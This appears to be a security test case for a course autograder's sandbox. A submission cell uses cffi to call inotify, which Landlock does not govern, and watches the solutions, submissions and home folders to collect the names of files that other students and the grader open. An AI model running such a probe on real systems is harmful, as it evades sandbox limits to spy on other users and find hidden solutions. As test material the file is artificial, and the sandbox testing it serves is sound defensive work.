"""attack: C through cffi (not ctypes) unnoticed; inotify, which Landlock does not govern, tells the names of files that others open: students, assignments, the course's hidden files
cell: fit_gaussian
assignment: 03_gaussian_latent
others: solved
expect: tampered
points: 5
keeps: 5
"""
import os
import struct
import time

import cffi

ffi = cffi.FFI()
ffi.cdef("int inotify_init1(int); int inotify_add_watch(int, const char *, unsigned);")
C = ffi.dlopen(None)
fd, watched, seen = C.inotify_init1(2048), {}, set()


def watch(folder):
    w = C.inotify_add_watch(fd, folder.encode(), 0x1F3 | 0x800)
    if w >= 0: watched[w] = folder


for folder in ("/tmp", "/home", "@COURSE@", "@COURSE@/solutions", "@SUBMITTED@", "@OUTPUT@", "@HOME@"):
    watch(folder)
end = time.time() + 2
while time.time() < end:
    time.sleep(0.01)
    try: b = os.read(fd, 1 << 16)
    except BlockingIOError: continue
    while len(b) >= 16:
        w, mask, _, n = struct.unpack("iIII", b[:16])
        path = watched.get(w, "?") + "/" + b[16:16 + n].rstrip(b"\0").decode(errors="replace")
        b = b[16 + n:]
        if path not in seen:
            seen.add(path)
            if os.path.isdir(path) and ("submitted" in path or "graded" in path): watch(path)
print("watching", len(watched), "folders;", len(seen), "names, among them", sorted(p for p in seen if "attempt-" in p or "submitted" in p or "graded" in p or "solutions" in p)[:30])


def fit_gaussian(z):
    raise NotImplementedError
